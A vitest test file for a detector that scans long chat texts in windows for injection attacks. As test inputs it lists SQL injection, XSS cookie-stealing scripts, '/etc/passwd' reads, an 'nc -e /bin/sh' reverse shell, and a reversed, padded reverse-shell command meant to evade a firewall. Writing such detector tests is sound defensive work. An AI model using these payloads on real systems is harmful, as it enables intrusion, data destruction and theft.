import { describe, expect, it } from 'vitest'
import { createDetector } from '../../src/detect/index.js'
import { passRoute } from '../../src/detect/pass-route.js'
import { loadText } from '../../src/detect/wide.js'
import { WINDOWS_MIN, windowsOf } from '../../src/detect/windows.js'

/**
 * A long text is read in windows around what the line-rate pass keeps (windows.ts): what a rule
 * reads at its trigger is found wherever the trigger stands, and the prose around it (whose
 * apostrophes a tokenizer opens literals with) is no part of that reading.
 */
const PROSE = [
  "We're shipping the new build on Friday, so don't forget the retro at 5 o'clock.",
  'The dashboard looks great (thanks Priya) and the search is twice as fast now.',
  "Sam's team fixed the flaky test; it was a timeout in the user's session code.",
  'Tickets are $35 each | bring a friend & we will find seats near the front <3',
  "She said \"it's fine\" but I'm not sure, let's ask Dave before we merge it.",
]
/** About `n` characters of chat prose, from sentence `k` on. */
const prose = (n: number, k = 0) => {
  let s = ''
  for (let i = k; s.length < n; i++) s += `${PROSE[i % PROSE.length]} `
  return s
}

const ATTACKS: [string, string][] = [
  ["1' UNION SELECT password FROM users--", 'ws-sqli'],
  ["x' OR '1'='1", 'ws-sqli'],
  ["'; DROP TABLE users; --", 'ws-sqli'],
  ["1; waitfor delay '0:0:5'--", 'ws-sqli'],
  ['<img src=x onerror=alert(1)>', 'ws-xss'],
  ['<script>alert(document.cookie)</script>', 'ws-xss'],
  ['javascript:alert(1)', 'ws-xss'],
  ['; cat /etc/passwd', 'ws-cmd-injection'],
  ['| nc -e /bin/sh 10.0.0.1 4444', 'ws-cmd-injection'],
  ['$(whoami)', 'ws-cmd-injection'],
  // (read whole, the sentences before these opened a literal the command was read inside)
  ['; ls -la /', 'ws-cmd-injection'],
  ['| whoami', 'ws-cmd-injection'],
]

describe('long texts read in windows', () => {
  const d = createDetector()

  for (const [attack, tag] of ATTACKS)
    it(`finds ${JSON.stringify(attack)} at the start, in the middle and at the end of long prose`, () => {
      for (const [before, after, k] of [
        [0, 3000, 0],
        [1500, 1500, 2],
        [3000, 0, 4],
        [20_000, 20_000, 1],
      ] as const) {
        const text = `${prose(before, k)}${attack} ${prose(after, k + 2)}`
        expect(text.length).toBeGreaterThanOrEqual(WINDOWS_MIN)
        const f = d.first(text)
        expect(f?.tag, `${before}/${after}`).toBe(tag)
        // (the excerpt is of the window, from the match)
        expect(f?.excerpt?.length).toBeLessThanOrEqual(64)
        // as a value of a message and as the text of a chat frame
        expect(d.first({ type: 'chat', text })?.tag).toBe(tag)
        expect(d.first(JSON.stringify({ type: 'chat', text }))?.path).toBe('$.text')
      }
    })

  it('finds an attack behind a run of padding (a WAF evasion)', () => {
    for (const n of [2048, 65_536]) {
      expect(d.first(`${'A'.repeat(n)}' UNION SELECT username || ':' || password FROM users`)?.rule).toBe(
        'sqli-union-select',
      )
      expect(d.first(`${'A'.repeat(n)};<script>alert(1);</script>`)?.tag).toBe('ws-xss')
      expect(d.first(`${'A'.repeat(n)};$(printf 'hsab/nib/ e- 4321 1.0.0.721 cn'|rev)`)?.tag).toBe(
        'ws-cmd-injection',
      )
    }
  })

  it('all() reports each detector once per string, whichever window found it', () => {
    const text = `<img src=x onerror=alert(1)> ${prose(4000)}1' UNION SELECT password FROM users-- ${prose(4000, 1)}<svg onload=alert(2)> ${prose(4000, 3)}' OR 1=1-- ${prose(2000)}`
    const found = d.all({ text })
    expect(found.map((f) => f.tag).sort()).toEqual(['ws-sqli', 'ws-xss'])
    expect(found.every((f) => f.path === '$.text')).toBe(true)
  })

  it('leaves long benign prose alone', () => {
    for (const n of [WINDOWS_MIN, 8000, 64_000])
      for (let k = 0; k < 5; k++) expect(d.all(prose(n, k))).toEqual([])
  })

  it('reads a text whole when its windows would cover most of it', () => {
    const dense = "it's; a 'b' <c> (d) & e | f; ".repeat(100)
    const wide = loadText(dense)
    expect(passRoute(dense, wide, true)).toBeGreaterThanOrEqual(0)
    expect(windowsOf(dense, wide)).toBe(-1)
  })

  it('reads the start of the text and each place the pass kept, in as many windows', () => {
    const text = `${prose(3000)}<b onclick=x> ${prose(3000, 1)}`
    const wide = loadText(text)
    expect(passRoute(text, wide, true)).toBeGreaterThanOrEqual(0)
    const n = windowsOf(text, wide)
    // the start, and a few windows around the kept triggers of the prose and the tag
    expect(n).toBeGreaterThanOrEqual(2)
    expect(n).toBeLessThan(text.length / 200)
  })
})
